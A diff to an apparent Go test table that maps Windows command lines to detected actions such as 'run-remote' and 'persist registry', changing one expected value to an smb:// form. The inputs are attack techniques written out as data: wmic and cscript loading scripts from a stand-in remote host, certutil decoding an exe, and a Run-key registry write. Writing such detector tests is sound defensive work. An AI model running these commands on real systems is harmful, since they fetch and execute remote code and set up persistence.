@@ -20,7 +20,7 @@ func TestProgramsOfWindows(t *testing.T) {
 		{`certutil -decode a.b64 a.exe`, []string{`read C:/Users/u/p/a.b64`, `write C:/Users/u/p/a.exe from C:/Users/u/p/a.b64`}},
 		{`wmic os get /format:"https://e/x.xsl"`, []string{`run-remote https://e/x.xsl`}},
 		{`wmic os get /format:list`, []string{}},
-		{`cscript //e:jscript \\e\share\x.js`, []string{`run-remote //e/share/x.js`}},
+		{`cscript //e:jscript \\e\share\x.js`, []string{`run-remote smb://e/share/x.js`}},
 		{`cscript build.vbs`, []string{`command build.vbs`}},
 		{`reg add HKCUSoftwareMicrosoftWindowsCurrentVersionRun /v x /d y`, []string{`persist registry HKCUSoftwareMicrosoftWindowsCurrentVersionRun`}},
 		{`reg add HKCU\Software\App /v x /d y`, []string{}},
